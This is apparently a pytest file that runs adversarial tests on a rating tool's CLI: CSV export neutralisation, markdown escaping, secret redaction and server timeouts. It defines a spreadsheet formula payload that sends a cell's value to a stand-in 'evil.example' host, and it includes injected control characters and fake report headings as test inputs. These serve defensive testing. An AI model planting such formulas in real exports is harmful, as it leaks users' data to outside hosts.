"""A hostile review of adjudication, notes as data and issue 24's trust fixes: each case broke a promise on the
code as merged, through the real CLI (or the real app in tmux), and holds now."""

from __future__ import annotations

import base64
import csv
import json
import os
import sqlite3
import subprocess
import sys
import time
import zlib
from pathlib import Path

import pytest

from tests.reliability.test_files import one_sentence
from tests.reliability.test_secrets import PASSWORD, echo_server  # noqa: F401 (a fixture)
from tests.reliability.test_slow_servers import _body, raw_server, since_first_contact  # noqa: F401 (a fixture)
from tests.support import SAMPLE, Script, digest, ok_body, run_cli_process, story_study
from tests.ui.tmux import TmuxApp, needs_tmux
from tui_rater.store.adjudication import Adjudication, adjudicated_values
from tui_rater.store.study import Study

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _cells(path: Path, delimiter: str = ",") -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle, delimiter=delimiter) for cell in row]


def test_notes_export_says_it_neutralised_a_comment_and_raw_csv_keeps_it(tmp_path):
    """`export --what notes` ignored --raw-csv and never said that a comment's formula got a leading '."""
    db = story_study(tmp_path / "study.db")
    study = Study.open(db)
    item = study.items("story")[0]
    study.add_note(item.key, study.human("alice").id, "comment", FORMULA)
    study.close()
    for suffix, delimiter in (("csv", ","), ("tsv", "\t")):
        out = tmp_path / f"notes.{suffix}"
        done = run_cli_process("export", "--what", "notes", "--db", db, "--out", out)
        assert done.returncode == 0, done.stderr
        assert "1 CSV cell(s)" in done.stderr and "--raw-csv writes them as they are" in done.stderr
        assert "'" + FORMULA in _cells(out, delimiter) and FORMULA not in _cells(out, delimiter)
        raw = tmp_path / f"raw.{suffix}"
        done = run_cli_process("export", "--what", "notes", "--db", db, "--out", raw, "--raw-csv")
        assert done.returncode == 0, done.stderr
        assert FORMULA in _cells(raw, delimiter) and "CSV cell" not in done.stderr


def _adjudicate_study(tmp_path: Path) -> Path:
    db = story_study(tmp_path / "study.db")
    ratings = tmp_path / "r.csv"
    ratings.write_text("item,rater,attribute,value\ns0,alice,grammaticality,1\ns0,bob,grammaticality,5\n")
    assert run_cli_process("import-ratings", ratings, "--db", db).returncode == 0
    return db


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("ev\x1b[31mil", "one line of text, without control characters"),
        ("two\nlines", "one line of text, without control characters"),
        ("x" * 81, "81 characters long"),
    ],
)
def test_adjudicator_names_are_checked_as_annotator_names(tmp_path, name, said):
    """`adjudicate --adjudicator` stored a name with ESC, a newline or 10,000 characters as a rater (and opened
    the screen) where `annotate --annotator` refuses each in one sentence."""
    db = _adjudicate_study(tmp_path)
    before = digest(db)
    command = [sys.executable, "-m", "tui_rater.cli", "adjudicate", "--db", str(db), "--task", "story"]
    try:
        done = subprocess.run(
            [*command, "--adjudicator", name], stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=30
        )
    except subprocess.TimeoutExpired:
        pytest.fail("the screen opened for a name that --annotator refuses")
    assert said in one_sentence(done) and "--adjudicator" in done.stderr
    assert digest(db) == before


def test_the_basic_auth_header_a_server_echoes_is_never_stored(tmp_path, echo_server):  # noqa: F811
    """A user and password in --base-url go out as `Authorization: Basic base64(user:password)`; a server that
    echoed that header had it stored in every reply: the password, one base64 decode away."""
    url, seen = echo_server
    db = tmp_path / "s.db"
    assert run_cli_process("import", SAMPLE / "stories.csv", "--task", "story", "--db", db).returncode == 0
    secret_url = f"http://alice:{PASSWORD}@{url.removeprefix('http://')}"
    judged = run_cli_process(
        "judge", "--db", db, "--model", "api:echo", "--base-url", secret_url, "--limit", "1", "--samples", "1"
    )
    assert judged.returncode == 0, judged.stderr
    sent = base64.b64encode(f"alice:{PASSWORD}".encode()).decode()
    assert seen and seen[0]["authorization"] == f"Basic {sent}"  # what the server got, and echoed
    raws = [r[0] for r in sqlite3.connect(db).execute("SELECT raw FROM ratings WHERE raw IS NOT NULL")]
    assert raws and all("with Basic [key]" in raw for raw in raws), raws
    out = tmp_path / "judgements.jsonl"
    assert run_cli_process("export", "--db", db, "--what", "judgements", "--out", out).returncode == 0
    for path in (db, out):
        assert sent.rstrip("=").encode() not in path.read_bytes(), path.name


def _raw_deflate(conn, stopped) -> None:
    compressor = zlib.compressobj(wbits=-zlib.MAX_WBITS)  # deflate without the zlib header, as IIS sends it
    conn.sendall(_body(compressor.compress(ok_body("Rating: 4").encode()) + compressor.flush(), "deflate"))


def test_a_raw_deflate_reply_is_read_as_before_the_size_cap(tmp_path, raw_server):  # noqa: F811
    """The decoded-size cap decodes gzip/deflate itself; a deflate body without its zlib header (which httpx
    read) became "its deflate body is not valid" and the judge stopped after 12 replies."""
    db = tmp_path / "s.db"
    assert run_cli_process("import", SAMPLE / "stories.csv", "--task", "story", "--db", db).returncode == 0
    server = raw_server(_raw_deflate)
    judged = run_cli_process(
        "judge", "--db", db, "--model", "api:m", "--base-url", server.url, "--limit", "1", "--samples", "1",
        "--timeout", "20",
    )  # fmt: skip
    assert judged.returncode == 0, judged.stderr
    rows = sqlite3.connect(db).execute("SELECT raw, value FROM ratings WHERE raw IS NOT NULL").fetchall()
    assert rows and all(row == ("Rating: 4", 4.0) for row in rows)


def test_a_line_break_in_an_item_id_or_a_comment_stays_inside_its_markdown_cell(tmp_path):
    """The report's Notes table brought item ids and comments into the markdown report: a line break in one
    ended the table row, and the text after it became markdown of its own (here a heading of the report)."""
    items = tmp_path / "items.csv"
    items.write_text('id,system,prompt,story\n"s1\n## Verdict: the judge is ready",h,P,S.\ns2,h,P,S.\n')
    db = tmp_path / "s.db"
    assert run_cli_process("import", items, "--task", "story", "--db", db).returncode == 0
    ratings = tmp_path / "r.csv"
    ratings.write_text('item,rater,attribute,value\n"s1\n## Verdict: the judge is ready",alice,grammaticality,2\n')
    assert run_cli_process("import-ratings", ratings, "--db", db).returncode == 0
    study = Study.open(db)
    alice = study.human("alice")
    first, second = study.items("story")
    study.add_note(first.key, alice.id, "flag")
    study.add_note(second.key, alice.id, "comment", "fine\r\n# Approved by the lead\nreally")
    study.close()
    out = tmp_path / "report.md"
    done = run_cli_process("report", "--db", db, "--task", "story", "--format", "markdown", "--out", out)
    assert done.returncode == 0, done.stderr
    lines = out.read_text().splitlines()
    assert not [line for line in lines if line.startswith(("## Verdict", "# Approved", "really"))], lines
    table = lines[lines.index(next(line for line in lines if line.startswith("## Notes"))) + 2 :]
    rows = table[: ([*table, ""]).index("")]
    assert len(rows) == 4 and all(row.startswith("|") and row.endswith("|") for row in rows), rows
    assert (
        "| s1<br>## Verdict: the judge is ready |" in rows[2] and "fine<br># Approved by the lead<br>really" in rows[3]
    )


def test_of_two_adjudicators_decisions_the_export_marks_in_force_the_one_the_report_uses(tmp_path):
    """Two leads decided one question: the report and `adjudicate` use the latest decision, whoever took it;
    `export --what notes` marked both decisions in force."""
    db = _adjudicate_study(tmp_path)
    study = Study.open(db)
    key = {item.id: item.key for item in study.items("story")}["s0"]
    first = Adjudication(study, "story", "ann").decide(key, "grammaticality", 2)
    latest = Adjudication(study, "story", "ben").decide(key, "grammaticality", 4)
    assert adjudicated_values(study, "story") == {"grammaticality": {key: 4.0}}
    study.close()
    out = tmp_path / "notes.jsonl"
    assert run_cli_process("export", "--what", "notes", "--db", db, "--out", out).returncode == 0
    rows = {row["rating_id"]: row for row in map(json.loads, out.read_text().splitlines())}
    assert (rows[first]["in_force"], rows[latest]["in_force"]) == (False, True)
    queue = json.loads(run_cli_process("adjudicate", "--db", db, "--task", "story", "--format", "json").stdout)
    assert queue[0]["questions"][0]["decided"] == 4.0


def test_a_changed_task_file_given_to_other_commands_is_refused_once_rated(tmp_path):
    """Issue 24 refused a changed definition of a rated task at `import` only: the same file given with
    --task-file to `import-ratings`, `report`, `adjudicate` or `annotate` (or named in the config) overrode the
    stored definition without a word: ratings of 5 read on a 1-3 scale, and a 3 imported under it."""
    from tests.reliability.test_bad_input_third import _task_file

    db = tmp_path / "study.db"
    items = tmp_path / "essays.csv"
    items.write_text("id,essay\ne1,One essay.\ne2,Another essay.\n")
    first = _task_file(tmp_path)
    assert run_cli_process("import", items, "--task", "essay", "--task-file", first, "--db", db).returncode == 0
    ratings = tmp_path / "r.csv"
    ratings.write_text("item,attribute,rater,value\ne1,quality,ann,5\ne1,quality,bob,4\n")
    assert run_cli_process("import-ratings", ratings, "--task-file", first, "--db", db).returncode == 0
    before = digest(db)
    changed = _task_file(tmp_path, "quality", 3)
    more = tmp_path / "more.csv"
    more.write_text("item,attribute,rater,value\ne2,quality,ann,3\n")
    for words in (
        ["import-ratings", str(more)],
        ["report", "--task", "essay", "--format", "json"],
        ["adjudicate", "--task", "essay", "--list"],
        ["annotate", "--task", "essay", "--annotator", "ann"],
    ):
        done = subprocess.run(
            [sys.executable, "-m", "tui_rater.cli", *words, "--task-file", str(changed), "--db", str(db)],
            stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        error = one_sentence(done)
        assert "2 rating(s) under another definition" in error and "question 'quality': scale was" in error, error
        assert digest(db) == before, words
    # the stored definition itself, given again, is no error
    assert run_cli_process("report", "--task", "essay", "--task-file", first, "--db", db).returncode == 0


def test_megabyte_tokens_in_a_logprobs_reply_are_not_stored(tmp_path, fake_server):
    """The 64 KB cap bounds a reply's text; the tokens a logprobs reply lists were stored whatever their size
    (one --mode implicit job with three 1.5 MB "tokens" grew the study to 9 MB)."""
    from tests.judge.test_protocols import logprob_body

    items = tmp_path / "e.csv"
    items.write_text("id,system,prompt,story\ne1,gpt2,P,S.\n")
    db = tmp_path / "s.db"
    assert run_cli_process("import", items, "--task", "story-explicit", "--db", db).returncode == 0
    top = {"Yes": 0.5, "No": 0.25} | {f"{i}" + "x" * 1_500_000: 0.05 for i in range(3)}
    url = fake_server(Script([(200, {}, logprob_body(top), 0)]))
    judged = run_cli_process(
        "judge", "--db", db, "--model", "api:m", "--base-url", url, "--mode", "implicit", "--samples", "1",
        "--max-retries", "0", "--timeout", "30",
    )  # fmt: skip
    assert "Traceback" not in judged.stderr
    with sqlite3.connect(db) as conn:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        errors = [e for (e,) in conn.execute("SELECT last_error FROM jobs WHERE last_error IS NOT NULL")]
    assert errors and all("characters long" in e for e in errors), (errors, judged.stderr)
    assert db.stat().st_size < 1 << 20


def test_judge_check_against_a_silent_server_asks_it_once(tmp_path, raw_server):  # noqa: F811
    """`judge --check` asked a server that never answers each of its 8 questions in turn, waiting --timeout for
    each (16 minutes at the default 120 s, printing nothing): after the first unanswered question it asks no more."""
    from tests.reliability.test_slow_servers import _silent

    db = tmp_path / "s.db"
    assert run_cli_process("import", SAMPLE / "stories.csv", "--task", "story", "--db", db).returncode == 0
    before = digest(db)
    server = raw_server(_silent)
    checked = run_cli_process(
        "judge", "--db", db, "--model", "api:m", "--base-url", server.url, "--timeout", "4", "--check", timeout=180
    )
    took = since_first_contact(server, time.monotonic())  # (not the start-up: 15 s and more on a loaded machine)
    assert checked.returncode == 1 and "Traceback" not in checked.stderr, checked.stderr
    assert "8 of 8 questions could not be checked: timeout: no answer within 4 s" in checked.stdout, checked.stdout
    assert checked.stdout.count("not asked: the server did not answer an earlier question") == 7
    assert server.connections == 1 and took < 20, (server.connections, took)
    assert digest(db) == before


SIGNED_TASK = """
[[task]]
name = "essay"
fields = ["essay"]
[[task.attributes]]
name = "score"
question = "How good?"
scale = { kind = "continuous", low = -50, high = 50 }
"""


@pytest.mark.terminal
@needs_tmux
def test_adjudicate_decides_a_negative_or_decimal_value_the_hint_offers(tmp_path):
    """On a -50..50 scale the screen said "type -50-50, then Enter" but took digits only: the adjudicator could
    not decide -40 (nor 12.5), only 0..50."""
    task = tmp_path / "signed.toml"
    task.write_text(SIGNED_TASK)
    items = tmp_path / "items.csv"
    items.write_text("id,essay\ne1,One.\ne2,Two.\n")
    db = tmp_path / "s.db"
    assert run_cli_process("import", items, "--task", "essay", "--task-file", task, "--db", db).returncode == 0
    ratings = tmp_path / "r.csv"
    ratings.write_text(
        "item,attribute,rater,value\ne1,score,ann,-40\ne1,score,bob,45\ne2,score,ann,1\ne2,score,bob,2\n"
    )
    assert run_cli_process("import-ratings", ratings, "--task-file", task, "--db", db).returncode == 0
    command = [sys.executable, "-m", "tui_rater.cli", "adjudicate", "--db", str(db), "--task", "essay"]
    app = TmuxApp([*command, "--task-file", str(task), "--adjudicator", "lead"], tmp_path, size=(80, 24))
    try:
        app.wait_text("lead (adjudicator)", "1. e1")
        app.key("Enter")
        app.wait_text("item 1/2", "decide: type -50-50, then Enter")
        app._tmux("send-keys", "-t", "app", "-l", "--", "-40")  # (-- : tmux took "-40" for an option of its own)
        app.wait_text("[-40_] score")
        app.key("Enter")
        app.wait_text("item 2/2")
        app.keys("1.5")
        app.wait_text("[1.5_] score")
        app.key("Enter")
        app.wait_text("2/2 decided")
        app.keys("q")
        assert app.wait_status() == 0
    finally:
        app.close()
    with sqlite3.connect(db) as conn:
        decided = conn.execute(
            "SELECT i.id, r.value FROM ratings r JOIN raters ra ON ra.id = r.rater_id "
            "JOIN items i ON i.key = r.item_key WHERE ra.kind = 'adjudicator' ORDER BY i.id"
        ).fetchall()
    assert decided == [("e1", -40.0), ("e2", 1.5)]


def test_an_api_key_variable_that_is_not_set_is_one_sentence(tmp_path, echo_server):  # noqa: F811
    """`--api-key-env NAME` with $NAME unset (a typo) sent no key at all, without a word: a keyless server
    answered as if the key had been sent, and one that wants a key said 'name the variable with --api-key-env'."""
    url, seen = echo_server
    db = tmp_path / "s.db"
    assert run_cli_process("import", SAMPLE / "stories.csv", "--task", "story", "--db", db).returncode == 0
    before = digest(db)
    env = {k: v for k, v in os.environ.items() if k != "MY_SERVER_KEY"}
    for words in (
        ["judge", "--model", "api:m", "--base-url", url, "--api-key-env", "MY_SERVER_KEY", "--limit", "1"],
        ["judge", "--model", "api:m", "--base-url", url, "--api-key-env", "MY_SERVER_KEY", "--check"],
        ["annotate", "--annotator", "ann", "--judge", "api:m", "--base-url", url, "--api-key-env", "MY_SERVER_KEY"],
    ):
        error = one_sentence(run_cli_process(*words, "--db", db, env=env))
        assert "no API key: $MY_SERVER_KEY, named by --api-key-env, is not set" in error, error
        assert digest(db) == before and not seen
